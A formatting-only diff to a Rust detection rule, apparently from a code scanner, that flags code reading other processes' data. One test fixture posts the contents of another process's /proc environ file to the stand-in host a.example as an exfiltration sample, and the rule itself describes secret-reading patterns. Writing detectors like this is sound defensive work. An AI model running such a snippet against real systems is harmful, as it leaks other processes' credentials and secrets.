@@ -16,7 +16,8 @@ pub(super) const RULE: Rule = Rule {
 };
 
 fn judge(look: &Look<'_>) -> Option<Hit> {
-    let reads = look.has(Sign::OtherProcess) || (look.has(Sign::ProcessPath) && look.any(&[Sign::FsRead, Sign::FsWalk]));
+    let reads = look.has(Sign::OtherProcess)
+        || (look.has(Sign::ProcessPath) && look.any(&[Sign::FsRead, Sign::FsWalk]));
     if !reads {
         return None;
     }
@@ -24,10 +25,17 @@ fn judge(look: &Look<'_>) -> Option<Hit> {
     let severity = match () {
         () if look.is_build() => Severity::High,
         () if out && look.is_close() => Severity::Medium,
-        () if out || (look.has(Sign::OtherProcess) && look.any(&[Sign::Opaque, Sign::MapExecutable])) => Severity::Medium,
+        () if out || (look.has(Sign::OtherProcess) && look.any(&[Sign::Opaque, Sign::MapExecutable])) => {
+            Severity::Medium
+        }
         () => Severity::Low,
     };
-    hit(severity, &[Sign::OtherProcess, Sign::ProcessPath], WAY, format!("{} looks into other processes", look.where_it_runs()))
+    hit(
+        severity,
+        &[Sign::OtherProcess, Sign::ProcessPath],
+        WAY,
+        format!("{} looks into other processes", look.where_it_runs()),
+    )
 }
 
 #[cfg(test)]
@@ -38,14 +46,23 @@ mod tests {
 
     #[test]
     fn it_fires() {
-        fires(&RULE, "src/lib.rs", r##"pub fn f(pid: u32) {
+        fires(
+            &RULE,
+            "src/lib.rs",
+            r##"pub fn f(pid: u32) {
     let all = std::fs::read(format!("/proc/{}/environ", pid)).unwrap();
     let _ = ureq::post("http://a.example").send_bytes(&all);
-}"##, Severity::Medium);
+}"##,
+            Severity::Medium,
+        );
     }
 
     #[test]
     fn look_alikes_are_left_alone() {
-        is_quiet(&RULE, "src/lib.rs", r##"pub fn read(pid: u32) -> Vec<u8> { std::fs::read(format!("/proc/{}/environ", pid)).unwrap() }"##);
+        is_quiet(
+            &RULE,
+            "src/lib.rs",
+            r##"pub fn read(pid: u32) -> Vec<u8> { std::fs::read(format!("/proc/{}/environ", pid)).unwrap() }"##,
+        );
     }
 }
